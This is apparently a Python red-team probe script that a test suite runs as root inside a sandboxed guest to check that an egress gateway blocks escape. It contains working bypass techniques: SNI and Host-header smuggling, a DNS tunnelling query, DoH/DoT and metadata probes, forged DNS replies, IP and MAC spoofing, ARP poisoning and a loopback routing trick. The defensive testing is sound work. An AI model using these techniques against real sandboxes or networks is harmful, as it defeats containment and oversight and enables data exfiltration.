"""The red-team probes, run as root inside a real guest (python3 of the base template) by
tests/egress/test_redteam.py: `python3 -c <this file> '<config JSON>' PHASE`. Prints one JSON
object: probe name -> result. Nothing here decides pass or fail; the test does, from these
results, the audit log, the sandbox's nftables counters and the simulated internet's logs.

A result: {"ok": the operation completed as a client would want, "leak": a body that only a
server of the simulated internet other than the allowed vhost sends was seen,
"err": what failed, "status": HTTP statuses, "body": the start of what came back}.

Phases: "allowed" (the paths that must work), "denied" (independent probes, run in
parallel), "raw" (spoofing, ARP, IPv6 and route tricks: one at a time, then undone),
"hold" / "after" (a connection kept open across a live policy change).
"""
import concurrent.futures
import hashlib
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

CFG = json.loads(sys.argv[1])
PHASE = sys.argv[2]
T = CFG.get("timeout", 8.0)
WEB, FORBIDDEN_IP, DOH, DNS_UP, META = (CFG["web_ip"], CFG["forbidden_ip"], CFG["doh_ip"],
                                        CFG["dns_ip"], CFG["metadata_ip"])
PROXY = "169.254.0.1"  # the host side of the tap: the DNS proxy, the gateway's netns
HOST_MAC, GUEST_MAC = bytes.fromhex("020000000001"), bytes.fromhex("020000000002")
# What only a server of the simulated internet other than the allowed vhost sends.
LEAK_MARKS = (b"vhost=forbidden", b"vhost=default", b"vhost=leak", b"vhost=doh-leak",
              b"vhost=dot-leak", b"vhost=metadata-leak", b"vhost=port-leak", b"host-leak")

VERIFY = ssl.create_default_context()  # the system bundle: the egress CA is in it
NOVERIFY = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
NOVERIFY.check_hostname = False
NOVERIFY.verify_mode = ssl.CERT_NONE


def result(ok=False, err=None, data=b"", status=None, **kw):
    data = data or b""
    leak = any(m in data for m in LEAK_MARKS)
    return dict(ok=ok, err=err, leak=leak, status=status,
                body=data[:300].decode(errors="replace"), **kw)


def recv_all(s, limit=1 << 20):
    out = b""
    try:
        while len(out) < limit:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except (socket.timeout, OSError) as e:
        if not out:
            raise e
    return out


def read_response(f):
    """One HTTP/1.1 response from a file object: (status, headers, body)."""
    line = f.readline(65536)
    if not line:
        raise ConnectionError("closed before a response")
    parts = line.split(None, 2)
    status = int(parts[1])
    headers = {}
    while True:
        h = f.readline(65536)
        if h in (b"\r\n", b"\n", b""):
            break
        k, _, v = h.decode(errors="replace").partition(":")
        headers[k.strip().lower()] = v.strip()
    if "content-length" in headers:
        body = f.read(int(headers["content-length"]))
    elif headers.get("transfer-encoding", "").lower() == "chunked":
        body = b""
        while True:
            n = int(f.readline().split(b";")[0], 16)
            if n == 0:
                f.readline()
                break
            body += f.read(n)
            f.readline()
    else:
        body = f.read()
    return status, headers, body


def connect(ip, port, sni=False, ctx=NOVERIFY, server_hostname=None):
    s = socket.create_connection((ip, port), timeout=T)
    if sni is not False:
        s = ctx.wrap_socket(s, server_hostname=server_hostname)
    return s


def http_requests(ip, port, heads, tls=False, server_hostname=None, ctx=NOVERIFY):
    """Sends each request head on one connection, reading a response after each. Returns a
    result with status = [statuses], data = every body."""
    statuses, data = [], b""
    try:
        s = connect(ip, port, sni=tls, ctx=ctx, server_hostname=server_hostname)
    except Exception as e:  # noqa: BLE001 (every failure is a result)
        return result(err=f"connect: {type(e).__name__}: {e}", status=statuses)
    try:
        f = s.makefile("rb")
        for head in heads:
            s.sendall(head.encode())
            st, hd, body = read_response(f)
            statuses.append(st)
            data += body
    except Exception as e:  # noqa: BLE001
        return result(err=f"{type(e).__name__}: {e}", data=data, status=statuses)
    finally:
        s.close()
    return result(ok=bool(statuses) and all(200 <= x < 300 for x in statuses), data=data,
                  status=statuses)


def get(host, path="/", extra=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n"


def raw_tcp(ip, port, send=b"", tls_sni=False):
    """Connects, optionally does TLS, sends, reads: any reply is data."""
    try:
        s = connect(ip, port, sni=tls_sni, server_hostname=tls_sni or None)
    except Exception as e:  # noqa: BLE001
        return result(err=f"connect: {type(e).__name__}: {e}")
    try:
        if send:
            s.sendall(send)
        data = recv_all(s)
        if data.startswith(b"HTTP/1.") and data[9:12].isdigit():
            st = int(data[9:12])  # an HTTP answer: an error status is a refusal
            return result(ok=200 <= st < 400, data=data, status=[st])
        return result(ok=bool(data), data=data, err=None if data else "closed, no data")
    except Exception as e:  # noqa: BLE001
        return result(err=f"{type(e).__name__}: {e}")
    finally:
        s.close()


# ---- DNS ----

def dns_query(name, qtype=1, server=PROXY, port=53, qid=0x4242):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)


def dns_ask(name, qtype=1, server=PROXY, port=53):
    """Returns a result with rcode and the A records of the answer."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(T / 2)
    try:
        s.sendto(dns_query(name, qtype), (server, port))
        data, _ = s.recvfrom(4096)
    except Exception as e:  # noqa: BLE001
        return result(err=f"{type(e).__name__}: {e}")
    finally:
        s.close()
    rcode = data[3] & 0xF
    an = struct.unpack("!H", data[6:8])[0]
    addrs, types = [], []
    # Skip the question, then read the answers' A records.
    i = 12
    while data[i]:
        i += data[i] + 1
    i += 5
    for _ in range(an):
        if data[i] & 0xC0 == 0xC0:
            i += 2
        else:
            while data[i]:
                i += data[i] + 1
            i += 1
        t, _, _, ln = struct.unpack("!HHIH", data[i:i + 10])
        types.append(t)
        if t == 1 and ln == 4:
            addrs.append(socket.inet_ntoa(data[i + 10:i + 14]))
        i += 10 + ln
    return result(ok=rcode == 0 and bool(addrs), rcode=rcode, addrs=addrs, types=types)


# ---- a hand-made TLS 1.3 ClientHello (for what no client library sends on request) ----

def ext(t, body):
    return struct.pack("!HH", t, len(body)) + body


def client_hello(sni, ech=False):
    exts = b""
    if sni:
        name = sni.encode()
        exts += ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
    exts += ext(0x002B, b"\x02\x03\x04")                       # supported_versions: 1.3
    exts += ext(0x000A, b"\x00\x02\x00\x1d")                   # supported_groups: x25519
    exts += ext(0x000D, b"\x00\x02\x04\x03")                   # signature_algorithms
    exts += ext(0x0033, b"\x00\x24\x00\x1d\x00\x20" + os.urandom(32))  # key_share
    exts += ext(0x0010, b"\x00\x09\x08http/1.1")                # ALPN
    if ech:  # encrypted_client_hello, outer: the real destination would be inside
        exts += ext(0xFE0D, b"\x00\x00\x01\x00\x01\x2a" + struct.pack("!H", 32) +
                    os.urandom(32) + struct.pack("!H", 64) + os.urandom(64))
    body = (b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32) + b"\x00\x02\x13\x01" +
            b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


# ---- raw packets (AF_PACKET on eth0; the guest is root) ----

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, 0, 64, proto, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:] + payload


def udp(src, dst, sport, dport, payload):
    u = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, len(u))
    u = u[:6] + struct.pack("!H", csum(pseudo + u) or 0xFFFF) + u[8:]
    return ipv4(src, dst, 17, u)


def tcp_syn(src, dst, sport, dport):
    t = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(t))
    t = t[:16] + struct.pack("!H", csum(pseudo + t)) + t[18:]
    return ipv4(src, dst, 6, t)


def arp(op, sender_mac, sender_ip, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sender_mac,
                       socket.inet_aton(sender_ip), HOST_MAC if op == 2 else b"\0" * 6,
                       socket.inet_aton(target_ip))


def send_frames(frames, listen=0.0, match=None):
    """Sends (src_mac, ethertype, payload, dst_mac) frames out of eth0; then listens for
    `listen` seconds for a frame match(frame) accepts. Returns whether one came."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind(("eth0", 0))
    try:
        for src, et, payload, dst in frames:
            s.send(dst + src + struct.pack("!H", et) + payload)
        end = time.monotonic() + listen
        while listen and time.monotonic() < end:
            s.settimeout(max(0.05, end - time.monotonic()))
            try:
                fr = s.recv(4096)
            except socket.timeout:
                break
            if fr[6:12] != GUEST_MAC and match and match(fr):
                return True
        return False
    finally:
        s.close()


def icmpv6_echo():
    body = struct.pack("!BBHHH", 128, 0, 0, 1, 1) + b"ping"
    src = bytes.fromhex("fe800000000000000000000000000002")
    dst = bytes.fromhex("ff020000000000000000000000000001")
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", csum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + src + dst + body


def sh(cmd, timeout=60):
    r = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=timeout)
    return r.returncode, r.stdout, r.stderr


# ---- phase: allowed ----

def download(url, extra=()):
    """curl's output hashed as it streams (the guest's /tmp is RAM)."""
    t0 = time.monotonic()
    h, n = hashlib.sha256(), 0
    p = subprocess.Popen(["curl", "-sS", "-m", "600", *extra, url], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE)
    while True:
        b = p.stdout.read(1 << 20)
        if not b:
            break
        h.update(b)
        n += len(b)
    err = p.stderr.read().decode(errors="replace")
    rc = p.wait()
    return result(ok=rc == 0, sha256=h.hexdigest(), size=n, err=err or None,
                  seconds=round(time.monotonic() - t0, 1))


def allowed():
    out = {}
    out["resolve"] = dns_ask(CFG["allowed"])
    try:
        out["getaddrinfo"] = result(ok=True, addrs=sorted({a[4][0] for a in socket.getaddrinfo(
            CFG["allowed"], 443, socket.AF_INET, socket.SOCK_STREAM)}))
    except OSError as e:
        out["getaddrinfo"] = result(err=f"{type(e).__name__}: {e}", addrs=[])
    out["https_record_stripped"] = dns_ask(CFG["allowed"], qtype=65)
    rc, so, se = sh(f"curl -sS -m 30 http://{CFG['allowed']}/curl-http")
    out["curl_http"] = result(ok=rc == 0, data=so.encode(), err=se or None)
    # No --cacert: curl reads the system bundle (and CURL_CA_BUNDLE), where /init put the CA.
    rc, so, se = sh(f"curl -sS -m 30 https://{CFG['allowed']}/curl-https")
    out["curl_https"] = result(ok=rc == 0, data=so.encode(), err=se or None)
    rc, so, se = sh(f"env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -m 30 "
                    f"https://{CFG['allowed']}/curl-system-store")
    out["curl_system_store"] = result(ok=rc == 0, data=so.encode(), err=se or None)
    try:
        import urllib.request
        body = urllib.request.urlopen(f"https://{CFG['allowed']}/urllib", timeout=30).read()
        out["urllib_https"] = result(ok=True, data=body)
    except Exception as e:  # noqa: BLE001
        out["urllib_https"] = result(err=f"{type(e).__name__}: {e}")
    try:  # pip's way: requests/pip honour REQUESTS_CA_BUNDLE / PIP_CERT, set by the agent
        ctx = ssl.create_default_context(cafile=os.environ.get("PIP_CERT"))
        import urllib.request
        body = urllib.request.urlopen(f"https://{CFG['allowed']}/pip-style", timeout=30,
                                      context=ctx).read()
        out["pip_style_https"] = result(ok=True, data=body, cafile=os.environ.get("PIP_CERT"))
    except Exception as e:  # noqa: BLE001
        out["pip_style_https"] = result(err=f"{type(e).__name__}: {e}")
    out["env"] = result(ok=True, env={k: os.environ.get(k) for k in (
        "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "PIP_CERT", "CURL_CA_BUNDLE",
        "NODE_EXTRA_CA_CERTS")})
    a = CFG["allowed"]
    out["keepalive_https"] = http_requests(WEB, 443, [get(a, "/ka1"), get(a, "/ka2"),
                                                      get(a, "/ka3")],
                                           tls=True, server_hostname=a, ctx=VERIFY)
    out["keepalive_http"] = http_requests(WEB, 80, [get(a, "/kh1"), get(a, "/kh2")])
    # TLS in a TCG guest runs at a few MB/s: HTTPS takes the first big_tls_bytes (a Range
    # request, which the gateway relays like any other), plain HTTP the whole file.
    out["big_https"] = download(f"https://{a}/{CFG['big_name']}",
                                ["-r", f"0-{CFG['big_tls_bytes'] - 1}"])
    out["big_http"] = download(f"http://{a}/{CFG['big_name']}")
    return out


# ---- phase: denied (independent probes, in parallel) ----

def denied_probes():
    a, f = CFG["allowed"], CFG["forbidden"]
    p = {}
    # The CDN case: the shared address, by IP, with a forbidden SNI (and via /etc/hosts).
    p["sni_forbidden_direct_ip"] = lambda: http_requests(WEB, 443, [get(f)], tls=True,
                                                         server_hostname=f)
    p["sni_forbidden_etc_hosts"] = lambda: (
        lambda rc_so_se: result(ok=rc_so_se[0] == 0, data=rc_so_se[1].encode(),
                                err=rc_so_se[2] or None))(
        sh(f"curl -sS -k -m 20 https://etchosts.{f}/"))
    # Allowed SNI, forbidden Host (a terminated connection: every request's Host checked).
    p["sni_allowed_host_forbidden"] = lambda: http_requests(WEB, 443, [get(f"hostx.{f}")],
                                                            tls=True, server_hostname=a,
                                                            ctx=VERIFY)
    # Keep-alive: allowed, then forbidden on the same connection (TLS and plain HTTP).
    p["keepalive_second_forbidden_tls"] = lambda: http_requests(
        WEB, 443, [get(a, "/first"), get(f"ka2.{f}", "/second")], tls=True,
        server_hostname=a, ctx=VERIFY)
    p["keepalive_second_forbidden_http"] = lambda: http_requests(
        WEB, 80, [get(a, "/first"), get(f"kh2.{f}", "/second")])
    p["http_host_forbidden"] = lambda: http_requests(WEB, 80, [get(f"plain.{f}")])
    # CONNECT and absolute URIs through the allowed name.
    p["connect_method"] = lambda: http_requests(
        WEB, 80, [f"CONNECT connect.{f}:443 HTTP/1.1\r\nHost: connect.{f}:443\r\n\r\n"])
    p["connect_method_host_allowed"] = lambda: http_requests(
        WEB, 80, [f"CONNECT {FORBIDDEN_IP}:443 HTTP/1.1\r\nHost: {a}\r\n\r\n"])
    p["absolute_uri_other_host"] = lambda: http_requests(
        WEB, 80, [f"GET http://absolute.{f}/ HTTP/1.1\r\nHost: {a}\r\n\r\n"])
    # Raw IP: the forbidden address and other ports of the allowed one.
    p["raw_ip_80"] = lambda: raw_tcp(FORBIDDEN_IP, 80, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    p["raw_ip_443"] = lambda: raw_tcp(FORBIDDEN_IP, 443, b"", tls_sni=a)
    # (With Host: allowed.test, port 8080 would be the allowed name: its rule has no port.)
    p["raw_ip_8080"] = lambda: raw_tcp(WEB, 8080, f"GET / HTTP/1.1\r\nHost: {WEB}:8080\r\n\r\n"
                                       .encode())
    p["raw_ip_22"] = lambda: raw_tcp(WEB, 22, b"SSH-2.0-probe\r\n")
    p["raw_ip_443_no_dns"] = lambda: raw_tcp(WEB, 443, b"", tls_sni=f"nodns.{f}")
    # ECH: the SNI an observer sees (allowed) says nothing of the inner one.
    p["clienthello_ech"] = lambda: raw_tcp(WEB, 443, client_hello(a, ech=True))
    # No SNI at all.
    p["clienthello_no_sni"] = lambda: http_requests(WEB, 443, [get(a)], tls=True,
                                                    server_hostname=None)
    # DNS: a forbidden name never goes upstream; nor a name that tunnels data.
    p["dns_forbidden"] = lambda: dns_ask(f"dnsq.{f}")
    p["dns_forbidden_exact"] = lambda: dns_ask(f)
    p["dns_tunnel"] = lambda: dns_ask("c2VjcmV0LWRhdGE.exfil." + f)
    p["dns_direct_upstream"] = lambda: dns_ask(f"direct.{a}", server=DNS_UP)
    p["dns_other_resolver_tcp"] = lambda: raw_tcp(DNS_UP, 53, struct.pack("!H", 34) +
                                                  dns_query(f"tcpdns.{a}"))
    # DoH to an address the guest hard-codes; DoT on 853.
    p["doh"] = lambda: http_requests(DOH, 443, [
        "POST /dns-query HTTP/1.1\r\nHost: dns.test\r\nContent-Type: application/dns-message"
        "\r\nContent-Length: 0\r\n\r\n"], tls=True, server_hostname="dns.test")
    p["dot"] = lambda: raw_tcp(DOH, 853, struct.pack("!H", 34) + dns_query(f"dot.{a}"),
                               tls_sni="dns.test")
    # The cloud metadata address (answered inside the simulated internet: a leak shows).
    p["metadata"] = lambda: http_requests(META, 80, [get(META, "/latest/meta-data/")])
    p["metadata_tls"] = lambda: raw_tcp(META, 443, b"", tls_sni=a)
    # UDP, QUIC, ICMP: nothing answers, the tap's netns drops them.
    def udp_probe(ip, port, payload):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        try:
            s.sendto(payload, (ip, port))
            data, _ = s.recvfrom(4096)
            return result(ok=True, data=data)
        except Exception as e:  # noqa: BLE001
            return result(err=f"{type(e).__name__}: {e}")
        finally:
            s.close()
    quic = bytes([0xC3, 0, 0, 0, 1, 8]) + os.urandom(8) + b"\0" + b"\0" * 1180
    p["udp_9999"] = lambda: udp_probe(WEB, 9999, b"hello")
    p["quic_443"] = lambda: udp_probe(WEB, 443, quic)
    p["udp_dns_metadata"] = lambda: udp_probe(META, 53, dns_query(f"meta.{a}"))

    def icmp_probe(ip):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        except OSError as e:
            return result(err=f"socket: {e}")
        s.settimeout(2)
        pkt = struct.pack("!BBHHH", 8, 0, 0, 0x77, 1) + b"redteam"
        pkt = pkt[:2] + struct.pack("!H", csum(pkt)) + pkt[4:]
        try:
            s.sendto(pkt, (ip, 0))
            end = time.monotonic() + 2
            while time.monotonic() < end:
                data, peer = s.recvfrom(4096)
                if peer[0] == ip and data[20] == 0:
                    return result(ok=True, err=None, peer=peer[0])
            return result(err="no echo reply")
        except Exception as e:  # noqa: BLE001
            return result(err=f"{type(e).__name__}: {e}")
        finally:
            s.close()
    p["icmp_web"] = lambda: icmp_probe(WEB)
    p["icmp_gateway"] = lambda: icmp_probe(PROXY)
    # The host side of the tap: nothing but DNS and the redirected gateway port is open.
    for port in (15001, 49983, 22, 80, CFG["api_port"], CFG["ingress_port"]):
        p[f"host_side_tcp_{port}"] = (lambda port=port: raw_tcp(
            PROXY, port, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"))
    p["host_side_dns_tcp"] = lambda: raw_tcp(PROXY, 53, struct.pack("!H", 34) +
                                             dns_query(f"tcp53.{a}"))
    # The machine space-gw runs on, by its address (the host's API would be there).
    p["gateway_host_addr"] = lambda: raw_tcp(CFG["uplink_ip"], CFG["host_service_port"],
                                             b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    # Another sandbox: through the ingress by its name, with the allowed name's address.
    other = CFG.get("other_sandbox")
    if other:
        p["other_sandbox_by_name"] = lambda: http_requests(
            WEB, 443, [get(f"49983-{other}.space.test", "/health")], tls=True,
            server_hostname=f"49983-{other}.space.test")
        p["other_sandbox_host_header"] = lambda: http_requests(
            WEB, 80, [get(f"49983-{other}.space.test", "/health")])
    return p


def denied():
    # The allowed name resolved first, as a client would: the probes that ride on an allowed
    # connection need its address attributed to it by the proxy.
    dns_ask(CFG["allowed"])
    probes = denied_probes()
    with concurrent.futures.ThreadPoolExecutor(max_workers=12) as pool:
        futs = {name: pool.submit(fn) for name, fn in probes.items()}
        return {name: fut.result() for name, fut in futs.items()}


# ---- phase: raw (one at a time, undone afterwards) ----

def raw():
    a = CFG["allowed"]
    out = {}
    # A forged DNS reply, from the upstream's address (spoofed source) and from our own, to
    # the proxy: it claims allowed.test is the forbidden address.
    fake = bytearray(dns_query(a, qid=0x1111))
    fake[2:4] = struct.pack("!H", 0x8180)
    fake[6:8] = struct.pack("!H", 1)
    fake += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(FORBIDDEN_IP)
    frames = [(GUEST_MAC, 0x0800, udp(DNS_UP, PROXY, 53, 53, bytes(fake)), HOST_MAC)]
    frames += [(GUEST_MAC, 0x0800, udp(DNS_UP, PROXY, 53, port, bytes(fake)), HOST_MAC)
               for port in range(32768, 32868)]
    send_frames(frames)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 53))
    s.sendto(bytes(fake), (PROXY, 53))
    s.close()
    time.sleep(0.5)
    out["forged_dns_then_resolve"] = dns_ask(a)
    out["forged_dns_connect_tls"] = raw_tcp(FORBIDDEN_IP, 443, b"", tls_sni=a)
    out["forged_dns_connect_http"] = http_requests(FORBIDDEN_IP, 80, [get(a, "/forged")])
    # Spoofed source IP (TCP SYN and UDP) and spoofed source MAC.
    out["spoof_ip"] = result(answered=send_frames(
        [(GUEST_MAC, 0x0800, tcp_syn("169.254.0.3", WEB, 40001, 80), HOST_MAC)] * 3 +
        [(GUEST_MAC, 0x0800, udp("198.18.1.10", PROXY, 53, 53, dns_query("spoofip." + a)),
          HOST_MAC)] * 3, listen=1.5,
        match=lambda fr: fr[12:14] == b"\x08\x00" and fr[23] == 6 and fr[30:34] ==
        socket.inet_aton("169.254.0.3")))
    out["spoof_mac"] = result(answered=send_frames(
        [(bytes.fromhex("020000000099"), 0x0800, tcp_syn("169.254.0.2", WEB, 40002, 80),
          HOST_MAC)] * 3, listen=1.5,
        match=lambda fr: fr[0:6] == bytes.fromhex("020000000099")))
    # ARP poisoning: claim the gateway's address, and the metadata address, as ours.
    out["arp_poison"] = result(answered=send_frames(
        [(GUEST_MAC, 0x0806, arp(2, GUEST_MAC, PROXY, PROXY), bytes.fromhex("ffffffffffff")),
         (GUEST_MAC, 0x0806, arp(1, GUEST_MAC, PROXY, "169.254.0.2"), HOST_MAC),
         (bytes.fromhex("020000000077"), 0x0806,
          arp(2, bytes.fromhex("020000000077"), "169.254.0.2", PROXY), HOST_MAC)] * 2))
    # IPv6, as raw frames (the guest may have it off; the tap must drop it either way).
    out["ipv6"] = result(answered=send_frames(
        [(GUEST_MAC, 0x86DD, icmpv6_echo(), bytes.fromhex("333300000001"))] * 5, listen=1.5,
        match=lambda fr: fr[12:14] == b"\x86\xdd"))
    # A route trick: the host's loopback through the tap (route_localnet), as if the guest
    # could make the gateway dial the host's own 127.0.0.x services.
    # (No policy routing in the guest kernel: the local table's 127/8 route goes instead.)
    cmds = ("sysctl -qw net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.eth0.route_localnet=1"
            " && ip route del local 127.0.0.0/8 dev lo table local"
            " && ip route add 127.0.0.2/32 via 169.254.0.1 dev eth0 onlink")
    rc, so, se = sh(cmds)
    out["loopback_route"] = result(ok=rc == 0, err=se or None)
    if rc == 0:
        for name, port in (("host_api", CFG["api_port"]), ("host_ingress", CFG["ingress_port"]),
                           ("host_service", CFG["host_service_port"])):
            out[f"loopback_{name}"] = raw_tcp("127.0.0.2", port,
                                              b"GET / HTTP/1.1\r\nHost: 127.0.0.2\r\n\r\n")
        out["loopback_raw_tcp"] = raw_tcp("127.0.0.2", CFG["host_service_port"], b"\0hello")
    sh("ip route del 127.0.0.2/32; ip route add local 127.0.0.0/8 dev lo table local "
       "proto kernel scope host src 127.0.0.1; sysctl -qw net.ipv4.conf.all.route_localnet=0 "
       "net.ipv4.conf.eth0.route_localnet=0")
    out["after_raw_still_works"] = http_requests(WEB, 443, [get(a, "/after-raw")], tls=True,
                                                 server_hostname=a, ctx=VERIFY)
    return out


# ---- phases: hold / after (live policy change) ----

def hold():
    """Opens a keep-alive TLS connection, does one request, then waits (in the background)
    for /tmp/redteam-go, does a second request on it and a new connection, and writes
    /tmp/redteam-hold.json."""
    a = CFG["allowed"]
    if os.fork():
        for _ in range(300):
            if os.path.exists("/tmp/redteam-ready"):
                return {"hold": result(ok=True)}
            if os.path.exists("/tmp/redteam-hold.json"):
                with open("/tmp/redteam-hold.json") as fp:
                    return {"hold": result(err="holder failed"), **json.load(fp)}
            time.sleep(0.1)
        return {"hold": result(err="holder not ready")}
    os.setsid()
    # Off the exec's pipes: the agent ends the exec when its output closes.
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    out = {}
    try:
        s = connect(WEB, 443, sni=True, ctx=VERIFY, server_hostname=a)
        s.settimeout(60)
        f = s.makefile("rb")
        s.sendall(get(a, "/before-change").encode())
        st, _, body = read_response(f)
        out["held_first"] = result(ok=st == 200, status=[st], data=body)
        open("/tmp/redteam-ready", "w").close()
        while not os.path.exists("/tmp/redteam-go"):
            time.sleep(0.1)
        try:
            s.sendall(get(a, "/after-change-same-conn").encode())
            st, _, body = read_response(f)
            out["held_second"] = result(ok=st == 200, status=[st], data=body)
        except Exception as e:  # noqa: BLE001
            out["held_second"] = result(err=f"{type(e).__name__}: {e}")
        out["new_connection"] = http_requests(WEB, 443, [get(a, "/after-change-new")],
                                              tls=True, server_hostname=a, ctx=VERIFY)
        out["new_resolve"] = dns_ask("after." + a)
    except Exception as e:  # noqa: BLE001
        out["hold_error"] = result(err=f"{type(e).__name__}: {e}")
    with open("/tmp/redteam-hold.json.tmp", "w") as fp:
        json.dump(out, fp)
    os.rename("/tmp/redteam-hold.json.tmp", "/tmp/redteam-hold.json")
    os._exit(0)


def after():
    open("/tmp/redteam-go", "w").close()
    for _ in range(int(T * 20) + 200):
        if os.path.exists("/tmp/redteam-hold.json"):
            with open("/tmp/redteam-hold.json") as fp:
                return json.load(fp)
        time.sleep(0.1)
    return {"hold_error": result(err="holder wrote nothing")}


def default():
    """A sandbox created without a policy: nothing at all."""
    a = CFG["allowed"]
    out = {"resolve": dns_ask(a)}
    rc, so, se = sh(f"curl -sS -m 15 http://{a}/default-http")
    out["curl_http"] = result(ok=rc == 0, data=so.encode(), err=se or None)
    out["https_by_ip"] = http_requests(WEB, 443, [get(a, "/default-https")], tls=True,
                                       server_hostname=a)
    return out


def etc_hosts():
    with open("/etc/hosts", "a") as fp:
        fp.write(f"\n{WEB} etchosts.{CFG['forbidden']}\n")


if __name__ == "__main__":
    if PHASE == "denied":
        etc_hosts()
    res = {"allowed": allowed, "denied": denied, "raw": raw, "hold": hold,
           "after": after, "default": default}[PHASE]()
    # Whether /init's caBundle is in the trust store at the end of the phase (a diagnostic).
    try:
        with open("/etc/ssl/certs/ca-certificates.crt") as fp:
            res["trust"] = result(ok="# space-egress begin" in fp.read())
    except OSError as e:
        res["trust"] = result(err=str(e))
    print(json.dumps(res))
